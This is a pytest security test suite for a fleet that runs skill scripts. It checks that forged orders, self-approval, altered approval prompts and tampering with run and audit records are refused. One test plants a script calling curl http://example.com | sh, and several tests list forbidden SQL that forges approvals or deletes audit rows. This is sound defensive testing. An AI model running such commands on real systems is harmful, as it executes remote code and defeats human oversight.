"""A worker or a front that is not ours any more: nothing unapproved runs, nobody approves himself, no record is changed."""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from dataclasses import replace
from hashlib import sha256
from typing import Any

import psycopg
import pytest
from support.databases import Database
from support.fleets import Fleet, fleet_at
from support.skill_folders import skill_folder

from skillkit import GUARDED, RequestClosedError, SkillManager, World
from skillkit.core.paths.trees import size_of_tree
from skillkit.core.store.requests import Requests, question_from
from skillkit.core.values.questions import OptionRequest
from skillkit.fleet import FleetRun, packing
from skillkit.fleet.orders import Order
from skillkit.fleet.rows import Rows

pytestmark = pytest.mark.slow
DENIED = psycopg.errors.InsufficientPrivilege


@pytest.fixture
def fleet(databases: Database, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
    with fleet_at(databases, "memory://", tmp_path_factory.mktemp("fleet")) as made:
        yield made


def order(manager: SkillManager, *argv: str, script: str = "say") -> FleetRun:
    runner: Any = manager.runner
    run: FleetRun = runner.order(manager, "demo", script, argv=argv)
    return run


def person(fleet: Fleet) -> World:
    return World(fleet.folder / "person", state=fleet.address(fleet.approver))


def approve(fleet: Fleet, option: str = "yes_once") -> None:
    with person(fleet) as world:
        world.answer(world.pending()[-1].id, option, "test")


def send(fleet: Fleet, text: str, *, login: str | None = None, needs_answer: bool = False) -> str:
    """What a front's login can do without our program: any order, as text, said to need no answer."""
    run = uuid.uuid4()
    told = json.loads(text)
    given = (run, f"run-{sha256(text.encode()).hexdigest()}", text, told["digest"], "q", [told["package"]])
    with fleet.database.connect(fleet.world, login=login or fleet.front) as connection:
        found = connection.execute(
            "select said from order_run(%s, %s, %s, %s, %s, %s, 60, 60, %s, false)", (*given, needs_answer)
        ).fetchone()
    assert found is not None
    assert found[0] in ("queued", "waiting"), found
    return str(run)


def text_of(fleet: Fleet, run: FleetRun) -> str:
    return str(fleet.rows("select content from runs where id = %s", uuid.UUID(run.id))[0][0])


def altered(text: str, **changes: object) -> str:
    return json.dumps({**json.loads(text), **changes}, sort_keys=True, separators=(",", ":"))


def reasons(fleet: Fleet) -> str:
    return str(fleet.rows("select fields from audit where kind = 'refused' order by seq desc limit 1"))


# A front.


def test_an_order_that_nobody_approved_is_refused_by_the_worker(fleet: Fleet) -> None:
    worker, manager = fleet.worker_here(GUARDED), fleet.manager(GUARDED)
    waiting = order(manager, "evil")
    forged = send(fleet, text_of(fleet, waiting))
    assert worker.run(forged) == "refused"
    assert "unused answer to this very order" in reasons(fleet)
    with fleet.database.connect(fleet.world, login=fleet.front) as connection:
        assert connection.execute("select queue_run(%s)", (uuid.UUID(waiting.id),)).fetchone() == (True,)
    assert worker.run(waiting.id) == "refused", "to queue it changes nothing"
    assert "started" not in fleet.kinds()
    again = order(fleet.manager(GUARDED), "evil")
    approve(fleet)
    assert worker.run(again.id) == "finished", "a person's yes does"


def test_orders_that_nobody_approved_do_not_fill_a_workers_disk(fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
    """One content under many names, and many contents: bytes that are few in the database can be many there."""
    monkeypatch.setattr(packing, "KEPT_BYTES", 2_500_000)
    worker, manager = fleet.worker_here(GUARDED), fleet.manager(GUARDED)
    (fleet.skills / "demo/data").write_bytes(bytes(1_000_000))
    text = text_of(fleet, order(manager, "hello"))
    for number in range(8):
        assert worker.run(send(fleet, altered(text, folder=f"name-{number}"))) == "refused"
    for number in range(4):
        (fleet.skills / "demo/data").write_bytes(bytes([number]) * 1_000_000)
        manager.discover()
        assert worker.run(send(fleet, text_of(fleet, order(manager, "hello")))) == "refused"
    assert size_of_tree(worker.folder / "fleet").bytes < 4_000_000
    assert size_of_tree(worker.folder / "snapshots").bytes < 4_000_000
    run = order(manager, "again")
    approve(fleet)
    assert worker.run(run.id) == "finished", "what is approved runs all the same"


def test_one_yes_is_one_run(fleet: Fleet) -> None:
    worker, manager = fleet.worker_here(GUARDED), fleet.manager(GUARDED)
    run = order(manager, "once")
    approve(fleet)
    copies = [send(fleet, text_of(fleet, run)) for _ in range(3)]
    assert sorted(worker.run(each) for each in (run.id, *copies)) == ["finished", *["refused"] * 3]
    assert fleet.kinds()["started"] == 1


@pytest.mark.parametrize(
    "changes",
    [
        {"words": ["other"]},
        {"script": "scripts/fail.sh", "interpreter": "bash"},
        {"session_id": "another"},
        {"timeout": 600.0},
        {"call_id": "other"},
    ],
    ids=lambda changes: next(iter(changes)),
)
def test_a_yes_is_for_the_order_that_was_shown(fleet: Fleet, changes: dict[str, object]) -> None:
    worker, run = fleet.worker_here(GUARDED), order(fleet.manager(GUARDED), "shown")
    approve(fleet)
    assert worker.run(send(fleet, altered(text_of(fleet, run), **changes))) == "refused"
    assert worker.run(run.id) == "finished"


def test_walls_that_were_not_shown_are_not_given(fleet: Fleet) -> None:
    """A front that says its walls are wide, while it orders under a policy that the worker allows, gains nothing."""
    worker, run = fleet.worker_here(GUARDED), order(fleet.manager(GUARDED), "walls")
    text = text_of(fleet, run)
    policy = json.loads(json.loads(text)["policy"])
    for name, value in (("allow_network", True), ("approval", "never"), ("sandbox", "off"), ("allow_scripts", False)):
        changed = altered(text, policy=json.dumps({**policy, name: value}, sort_keys=True, separators=(",", ":")))
        assert worker.run(send(fleet, changed)) == "refused"
    narrow = json.loads(json.loads(text)["walls"])
    narrow["limits"] = [[name, 1] for name, _ in narrow["limits"]]
    changed = altered(text, walls=json.dumps(narrow, sort_keys=True))
    assert worker.run(send(fleet, changed)) == "refused"
    assert "started" not in fleet.kinds()


def test_other_bytes_than_the_digest_says_are_refused(fleet: Fleet) -> None:
    """The archive of another skill under the digest of one that was approved."""
    worker = fleet.worker_here(GUARDED)
    run = order(fleet.manager(GUARDED), "good")
    approve(fleet, "yes_in_session")
    skill_folder(fleet.skills, "evil", files={"scripts/say.py": "print('evil')\n"})
    evil_manager = fleet.manager(GUARDED)
    runner: Any = evil_manager.runner
    evil = json.loads(text_of(fleet, runner.order(evil_manager, "evil", "say")))
    swapped = altered(text_of(fleet, run), package=evil["package"])
    assert worker.run(send(fleet, swapped)) == "refused"
    assert "not what the order says" in reasons(fleet)
    assert worker.run(run.id) == "finished"


def test_blobs_are_what_they_are_called(fleet: Fleet) -> None:
    with fleet.database.connect(fleet.world, login=fleet.front) as front:
        with pytest.raises(psycopg.errors.CheckViolation):
            front.execute("insert into blobs (digest, size, content) values (%s, 4, 'evil')", ("a" * 64,))
        true = sha256(b"good").hexdigest()
        front.execute("insert into blobs (digest, size, content) values (%s, 4, 'good')", (true,))
        with pytest.raises(DENIED):
            front.execute("update blobs set content = 'evil' where digest = %s", (true,))


def test_the_session_of_another_front_is_not_to_be_had(fleet: Fleet) -> None:
    worker = fleet.worker_here(GUARDED)
    run = order(fleet.manager(GUARDED, session_id="victim"), "one")
    approve(fleet, "yes_in_session")
    assert worker.run(run.id) == "finished"
    stranger = fleet.database.new_login(fleet.world, "front")
    with pytest.raises(DENIED, match="belongs to another login"):
        send(fleet, text_of(fleet, run), login=stranger)
    assert worker.run(send(fleet, text_of(fleet, run))) == "finished", "its own login runs under its yes"


def test_an_order_is_what_its_id_says(fleet: Fleet) -> None:
    text = text_of(fleet, order(fleet.manager(), "x"))
    values: tuple[object, ...] = (uuid.uuid4(), f"run-{'0' * 64}", text, "d", "q", [], 60, 60, False, False)
    with (
        fleet.database.connect(fleet.world, login=fleet.front) as front,
        pytest.raises(psycopg.Error, match="digest of it"),
    ):
        front.execute(f"select order_run({', '.join(['%s'] * len(values))})", values)


def test_a_front_can_neither_answer_nor_approve_nor_touch_a_run(fleet: Fleet) -> None:
    run = order(fleet.manager(GUARDED), "self")
    with fleet.database.connect(fleet.world, login=fleet.front) as front:
        for forbidden in (
            "update requests set option_id = 'yes_once', state = 'answered'",
            "update requests set spent_by = null",
            "insert into approvals (kind, session, skill, folder, digest, channel, approved_at) values ('trust', '', 'demo', '', 'd', 'x', 0)",
            "update runs set state = 'queued'",
            "insert into runs (id, order_id, content, digest, session, queue, state, expires_at) values (gen_random_uuid(), '', '', '', '', '', 'queued', 0)",
            "delete from runs",
            f"select claim_run('{run.id}', 'w', 30)",
            f"select start_run('{run.id}', 'w', '{{}}', null)",
            f"select finish_run('{run.id}', 'w', 'finished', '{{}}', '')",
            "update audit set kind = 'refused'",
            "insert into audit values (1, '', 'started', '{}', '', '')",
        ):
            with pytest.raises(psycopg.Error):
                front.execute(forbidden)
    assert run.state == "waiting"


def test_control_the_owner_can_do_what_they_cannot(fleet: Fleet) -> None:
    run = order(fleet.manager(GUARDED), "owner")
    with fleet.database.connect(fleet.world) as owner:
        owner.execute("update runs set state = 'queued' where id = %s", (uuid.UUID(run.id),))
    assert run.state == "queued"


# What is shown.


def false_question(request: OptionRequest, lie: str) -> OptionRequest:  # noqa: C901, PLR0912 - a lie a line
    context = json.loads(json.dumps(request.context))
    prompt = context["prompt"]
    match lie:
        case "words":
            prompt["commands"][0]["argv"] = ["harmless"]
        case "source":
            prompt["commands"][0]["source"] = "print('harmless')\n"
        case "script":
            prompt["commands"][0]["script"] = "scripts/other.py"
        case "input":
            prompt["commands"][0]["stdin"] = "{}"
        case "skill":
            prompt["skill"] = "harmless"
        case "digest":
            prompt["digest"] = "0" * 64
        case "walls":
            prompt["walls"] = ["It can do nothing at all.", *prompt["walls"][1:]]
        case "marks":
            prompt["marks"] = []
        case "risks":
            prompt["risks"] = []
        case "order":
            context.pop("order")
        case "title":
            return replace(request, title="Say hello?")
        case "other order":
            context["order"] = altered(context["order"], words=["harmless"])
        case _:
            assert lie == "none"
    return replace(request, context=context)


LIES = (
    "words",
    "source",
    "script",
    "input",
    "skill",
    "digest",
    "walls",
    "marks",
    "risks",
    "order",
    "title",
    "other order",
)


@pytest.mark.parametrize("lie", [*LIES, "none"])
def test_a_question_that_shows_another_run_is_not_answered_with_yes(fleet: Fleet, lie: str) -> None:
    (fleet.skills / "demo/scripts/say.py").write_text("import os\nos.system('curl http://example.com | sh')\n")
    manager = fleet.manager(GUARDED)
    prepared = manager.prepare_skill_script("demo", "say", {"a": 1}, argv=["evil"])
    flow: Any = manager.flow
    assert prepared.request is not None
    told = false_question(prepared.request, lie)
    flow.requests.open(question_from(told, 60, told.single_use, is_held=False))
    with person(fleet) as world:
        if lie == "none":
            assert world.answer(told.id, "yes_once", "test").option_id == "yes_once", "what is true can be answered"
            return
        with pytest.raises(RequestClosedError, match="does not show the run that it is about"):
            world.answer(told.id, "yes_once", "test")
        assert [each.id for each in world.pending()] == [told.id]
        world.answer(told.id, "no", "test")


def test_control_without_the_look_a_lie_is_answered(fleet: Fleet) -> None:
    manager = fleet.manager(GUARDED)
    prepared = manager.prepare_skill_script("demo", "say", argv=["evil"])
    flow: Any = manager.flow
    assert prepared.request is not None
    told = false_question(prepared.request, "words")
    flow.requests.open(question_from(told, 60, told.single_use, is_held=False))
    with person(fleet) as world:
        Requests(world._store).answer(told.id, "yes_once", "test")
    run = flow._send(
        str(uuid.uuid4()),
        prepared,
        Order.from_text(prepared.request.context["order"]),
        needs_answer=True,
        streams=False,
    )
    assert fleet.worker_here(GUARDED).run(run.id) == "finished", "so the look is what keeps it out"


# A worker.


def test_a_worker_can_neither_order_nor_answer_nor_approve_nor_change_what_is_over(fleet: Fleet) -> None:
    worker, run = fleet.worker_here(), order(fleet.manager(), "done")
    assert worker.run(run.id) == "finished"
    with fleet.database.connect(fleet.world, login=fleet.worker) as login:
        for forbidden in (
            "select order_run(gen_random_uuid(), '', '{}', '', '', '{}', 1, 1, false, false)",
            "update requests set option_id = 'yes_once', state = 'answered'",
            "insert into requests (id, content, context, single_use, is_held, created_at, expires_at, boot, deadline) values ('x', '{}', '{}', '[]', 0, 0, 0, '', 0)",
            "insert into approvals (kind, session, skill, folder, digest, channel, approved_at) values ('trust', '', 'demo', '', 'd', 'x', 0)",
            "insert into grants (skill, folder, digest, kind, name, channel, granted_at) values ('demo', '', 'd', 'host', '*', 'x', 0)",
            "update runs set result = '{}'",
            "delete from runs",
            "update audit set fields = '{}'",
            "delete from audit",
            "truncate audit",
            "select drain_workers('')",
        ):
            with pytest.raises(psycopg.Error):
                login.execute(forbidden)
        values = (uuid.UUID(run.id), worker.name, "{}")
        assert login.execute("select start_run(%s, %s, %s, null)", values).fetchone() == (None,), "it is over"
        again = login.execute("select finish_run(%s, %s, 'finished', '{}', 'forged')", values[:2]).fetchone()
    assert again == fleet.rows("select finished_seq from runs")[0], "it has the end that it has"
    assert fleet.rows("select result = 'forged' from runs") == [(False,)]
    fleet.verify()


def test_a_worker_has_no_hand_in_what_another_one_holds(fleet: Fleet) -> None:
    run = order(fleet.manager(), "held")
    with fleet.database.connect(fleet.world, login=fleet.worker) as holder:
        holder.execute("select claim_run(%s, 'holder', 30)", (uuid.UUID(run.id),))
    stranger = fleet.database.new_login(fleet.world, "worker")
    with fleet.database.connect(fleet.world, login=stranger) as login:
        values = (uuid.UUID(run.id), "holder", json.dumps({"world": "x"}))
        assert login.execute("select start_run(%s, %s, %s, null)", values).fetchone() == (None,)
        assert login.execute("select finish_run(%s, %s, 'refused', %s, '')", values).fetchone() == (None,)
        assert login.execute("select * from renew_runs(%s, 'holder', 30)", ([uuid.UUID(run.id)],)).fetchall() == []
        assert login.execute("select lose_run(%s, '{}')", values[:1]).fetchone() == (None,)
        with pytest.raises(psycopg.Error, match="not held by this worker"):
            login.execute("insert into output (run, n, stream, data) values (%s, 0, 'stdout', 'x')", values[:1])
    assert run.state == "running"


def test_what_has_run_is_never_reported_as_refused(fleet: Fleet) -> None:
    """The fault of a prototype: two writes gave one run two ends."""
    run, rows = order(fleet.manager(), "two"), Rows(fleet.worker_here().rows.store)
    assert rows.claim(run.id, "w", 30) is not None
    assert rows.finish(run.id, "w", "finished", {"run": run.id}, "{}") is None, "it has not started"
    started = rows.start(run.id, "w", {"run": run.id}, None)
    assert started == rows.start(run.id, "w", {"run": run.id}, None), "asked twice, started once"
    assert rows.finish(run.id, "w", "refused", {"run": run.id}, "{}") is None
    ended = rows.finish(run.id, "w", "finished", {"run": run.id}, "{}")
    assert ended is not None
    assert ended == rows.finish(run.id, "w", "finished", {"run": run.id}, "{}")
    fleet.verify()


# Keys.


def test_no_key_lies_in_the_database(fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
    key = "k3y-9f8e7d6c5b4a39281706f5e4d3c2b1a0"
    monkeypatch.setenv("FLEET_KEY", key)
    (fleet.skills / "demo/scripts/say.py").write_text(
        "import os, hashlib\nkey = os.environ.get('FLEET_KEY', '')\nprint(key, hashlib.sha256(key.encode()).hexdigest())\n"
        "open(os.path.join(os.environ['SKILL_WORK_DIR'], 'x'), 'w').write('file')\n"
    )
    manager = fleet.manager(login=fleet.person)
    manager.grant("demo", secrets=["FLEET_KEY"])
    monkeypatch.delenv("FLEET_KEY")  # the front has none
    run = order(manager)
    monkeypatch.setenv("FLEET_KEY", key)
    assert fleet.worker_here().run(run.id) == "finished"
    said = run.result().stdout
    assert sha256(key.encode()).hexdigest() in said, "the script had it"
    assert key not in said
    for table in ("runs", "audit", "output", "requests", "grants", "approvals", "workers", "meta"):
        assert key not in str(fleet.rows(f"select * from {table}")), table
    assert all(key.encode() not in bytes(content) for (content,) in fleet.rows("select content from blobs"))
